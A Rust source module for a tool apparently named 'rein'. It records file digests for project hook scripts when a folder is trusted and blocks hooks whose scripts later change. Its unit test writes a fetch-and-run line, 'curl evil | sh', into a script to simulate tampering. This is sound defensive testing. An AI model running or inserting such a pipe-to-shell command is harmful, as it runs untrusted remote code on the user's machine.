//! What trusting a folder covers of its hooks besides their command lines:
//! the workspace files each project hook's command names (its scripts,
//! modules, makefiles; see [`rein_core::command_files`]), with a digest of
//! each, recorded when the folder is trusted (`rein trust`, the app's
//! question). A hook whose files changed since, or that names a file not
//! recorded then, no longer runs until the user trusts the folder again:
//! the model may have rewritten the script. A hook that names no workspace
//! file needs no record. `--trust` (this run only, not recorded) covers
//! its hooks as they are.
//!
//! Records live in `$REIN_HOME/hook-approvals.json`: folder → command →
//! file → digest.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use anyhow::{Result, anyhow, bail};
use rein_core::command_files::{FileChange, FileDigests, files_of_shell};
use rein_tools::user_hooks::HookEntry;
use serde::{Deserialize, Serialize};

/// The file under `$REIN_HOME`.
const FILE_NAME: &str = "hook-approvals.json";

#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct HookFile {
    version: u32,
    #[serde(default)]
    folders: BTreeMap<String, BTreeMap<String, FileDigests>>,
}

/// Whether a project hook may run as its files are now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Standing {
    /// Its files are as recorded (or it names none).
    Holds,
    /// It names workspace files, and nothing was recorded for it (the
    /// folder was trusted before rein recorded hook files, or the hook is
    /// new since).
    NotRecorded(String),
    /// A file changed, went away, or is newly named.
    Changed(FileChange),
}

/// The recorded hook files of one `$REIN_HOME`.
pub struct HookApprovals {
    path: PathBuf,
    file: HookFile,
}

/// The digests of the files a hook's command names in `workspace`.
pub fn digests(command: &str, workspace: &Path) -> FileDigests {
    FileDigests::of(&files_of_shell(command, workspace), workspace)
}

impl HookApprovals {
    /// Read `home/hook-approvals.json`; a missing file records nothing.
    pub fn load(home: &Path) -> Result<HookApprovals> {
        let path = home.join(FILE_NAME);
        let text =
            crate::settings_file::read_text(&path, "hook approvals file")?.unwrap_or_default();
        let file: HookFile = if text.trim().is_empty() {
            HookFile::default()
        } else {
            serde_json::from_str(&text).map_err(|e| {
                anyhow!(
                    "invalid hook approvals file {} (line {}); fix or delete it",
                    path.display(),
                    e.line()
                )
            })?
        };
        if file.version > 1 {
            bail!(
                "the hook approvals file {} is newer than this rein understands",
                path.display()
            );
        }
        Ok(HookApprovals { path, file })
    }

    /// A store that records nothing (when the file cannot be read: every
    /// hook that runs a file is then refused, never waved through).
    pub fn empty() -> HookApprovals {
        HookApprovals {
            path: PathBuf::new(),
            file: HookFile::default(),
        }
    }

    /// Whether the hook `command` of `folder` may run as its files are now.
    pub fn standing(&self, folder: &Path, command: &str) -> Standing {
        let now = digests(command, folder);
        if now.is_empty() {
            return Standing::Holds;
        }
        let recorded = folder
            .to_str()
            .and_then(|k| self.file.folders.get(k))
            .and_then(|hooks| hooks.get(command));
        match recorded {
            None => Standing::NotRecorded(now.paths().collect::<Vec<_>>().join(", ")),
            Some(then) => match then.change_to(&now) {
                None => Standing::Holds,
                Some(change) => Standing::Changed(change),
            },
        }
    }

    /// Record the files of each of `commands` in `folder` as they are now
    /// (replacing what was recorded for the folder) and write the file.
    pub fn record(&mut self, folder: &Path, commands: &[&str]) -> Result<()> {
        let key = folder
            .to_str()
            .filter(|_| folder.is_absolute())
            .ok_or_else(|| {
                anyhow!(
                    "cannot record {}: not a plain absolute path",
                    folder.display()
                )
            })?;
        let hooks: BTreeMap<String, FileDigests> = commands
            .iter()
            .map(|c| (c.to_string(), digests(c, folder)))
            .filter(|(_, d)| !d.is_empty())
            .collect();
        self.file.version = 1;
        if hooks.is_empty() {
            if self.file.folders.remove(key).is_none() {
                return Ok(());
            }
        } else {
            self.file.folders.insert(key.to_string(), hooks);
        }
        let text = serde_json::to_string_pretty(&self.file)? + "\n";
        crate::settings_file::write_private(&self.path, &text, "hook approvals file")
    }
}

/// The hooks of `entries` that come from the project's own files in
/// `workspace` (not the user's).
pub fn project_entries<'a>(
    entries: &'a [HookEntry],
    workspace: &'a Path,
) -> impl Iterator<Item = &'a HookEntry> {
    entries
        .iter()
        .filter(move |e| e.file.starts_with(workspace))
}

/// Why a project hook does not run, in one line naming the hook, the file
/// and the command that covers it again.
pub fn refusal(entry: &HookEntry, workspace: &Path, standing: &Standing) -> Option<String> {
    let why = match standing {
        Standing::Holds => return None,
        Standing::NotRecorded(files) => format!(
            "it runs {}, which trusting this folder did not cover (trusted before rein \
             checked hook files, or the hook is new)",
            rein_core::text::one_line(files, 200)
        ),
        Standing::Changed(change) => format!("{change} since you trusted this folder"),
    };
    Some(format!(
        "{}: the {} hook `{}` is not run: {why}; run `rein trust {}` to trust it as it is now",
        entry.file.display(),
        entry.event,
        rein_core::text::one_line(&entry.handler.command, 120),
        workspace.display()
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_recorded_hook_holds_until_its_script_changes_and_plain_commands_need_no_record() {
        let home = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(ws.path()).unwrap();
        std::fs::write(ws.join("guard.sh"), "exit 0\n").unwrap();
        let cmd = "sh \"$REIN_PROJECT_DIR/guard.sh\"";
        let mut store = HookApprovals::load(home.path()).unwrap();
        assert_eq!(store.standing(&ws, "echo hi"), Standing::Holds);
        assert!(matches!(
            store.standing(&ws, cmd),
            Standing::NotRecorded(f) if f == "guard.sh"
        ));
        store.record(&ws, &[cmd, "echo hi"]).unwrap();
        let store = HookApprovals::load(home.path()).unwrap();
        assert_eq!(store.standing(&ws, cmd), Standing::Holds);
        std::fs::write(ws.join("guard.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(
            store.standing(&ws, cmd),
            Standing::Changed(FileChange::Changed("guard.sh".into()))
        );
    }
}
